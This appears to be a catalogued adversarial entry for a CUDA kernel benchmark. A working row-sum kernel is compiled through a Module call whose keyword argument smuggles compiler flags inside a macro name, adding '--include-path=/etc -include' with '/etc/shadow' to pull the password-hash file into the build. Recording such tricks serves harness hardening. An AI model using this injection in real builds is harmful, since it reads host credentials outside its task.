# title: hides an option in a macro
# task: sum
# class: building
# tries: what comes after the name may be taken for the next argument
# seen: here first
# gains: nothing over sum_warp
# artifact: ok at precise timing
from evokernel.cuda import Module

kernels = Module(r"""
extern "C" __global__ void row_sums(const float* x, float* y, int C) {
    const float* row = x + blockIdx.x * (long long)C;
    float sum = 0;
    for (int c = threadIdx.x; c < C; c += 32) sum += row[c];
    for (int apart = 16; apart; apart /= 2) sum += __shfl_xor_sync(~0u, sum, apart);
    if (threadIdx.x == 0) y[blockIdx.x] = sum;
}
""", **{"N=1 --include-path=/etc -include": "/etc/shadow"})


def run(x, R, C, y):
    kernels.row_sums[R, 32](x, y, C)
